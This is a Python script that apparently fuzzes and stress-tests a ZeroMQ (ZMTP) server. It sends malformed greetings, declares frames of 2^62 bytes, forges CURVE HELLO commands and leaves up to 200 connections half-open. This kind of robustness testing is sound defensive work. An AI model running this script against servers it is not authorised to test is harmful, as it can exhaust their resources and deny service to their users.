#!/usr/bin/env python3
"""Hostile TCP peers for a ZMTP (ZeroMQ) server: python3 zmtp-attacker.py
HOST PORT SECONDS [--no-huge]. Until SECONDS have passed it keeps opening
connections that send random bytes, cut greetings short, declare frames of
2^62 bytes (after a CURVE and after a NULL greeting; not with --no-huge),
forge CURVE HELLO commands, and leave up to 200 connections half open.
Needs only the standard library. Prints one line of counts at the end."""
import os, socket, struct, sys, time

host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
huge = "--no-huge" not in sys.argv[4:]

def greeting(mechanism, as_server=0):
    # signature, version 3.0, mechanism (20 bytes), as-server, filler
    return (b"\xff" + b"\x00" * 8 + b"\x7f" + b"\x03\x00" +
            mechanism.ljust(20, b"\x00") + bytes([as_server]) + b"\x00" * 31)

def attacks():
    yield "garbage", os.urandom(4096)
    yield "truncated", greeting(b"CURVE")[:11]
    yield "truncated", greeting(b"CURVE")[:40]
    # a command frame (long) that says 2^62 bytes follow
    if huge: yield "huge", greeting(b"CURVE") + b"\x06" + struct.pack(">Q", 1 << 62) + b"\x05HELLO"
    # a message frame (long) of 2^62 bytes after a NULL greeting and READY
    ready = b"\x05READY" + b"\x0bSocket-Type" + struct.pack(">I", 4) + b"PUSH"
    if huge: yield "huge", (greeting(b"NULL") + b"\x04" + bytes([len(ready)]) + ready +
                   b"\x02" + struct.pack(">Q", 1 << 62) + b"x" * 64)
    # a HELLO of the right size with nonsense keys and box
    hello = b"\x05HELLO" + b"\x01\x00" + b"\x00" * 72 + os.urandom(32) + os.urandom(8) + os.urandom(80)
    yield "hello", greeting(b"CURVE") + b"\x04" + bytes([len(hello)]) + hello
    yield "hello", greeting(b"CURVE") + b"\x06" + struct.pack(">Q", 5000) + b"\x05HELLO" + os.urandom(4000)

counts = {"garbage": 0, "truncated": 0, "huge": 0, "hello": 0, "halfopen": 0, "refused": 0}
half_open = []
end = time.time() + seconds
while time.time() < end:
    for kind, data in attacks():
        try:
            s = socket.create_connection((host, port), timeout=2)
            s.sendall(data)
            counts[kind] += 1
            if kind == "truncated" and len(half_open) < 200:
                half_open.append(s)  # left open, waiting for the rest
                counts["halfopen"] += 1
            else:
                s.close()
        except OSError:
            counts["refused"] += 1
for s in half_open:
    s.close()
print(" ".join("%s=%d" % kv for kv in sorted(counts.items())), flush=True)
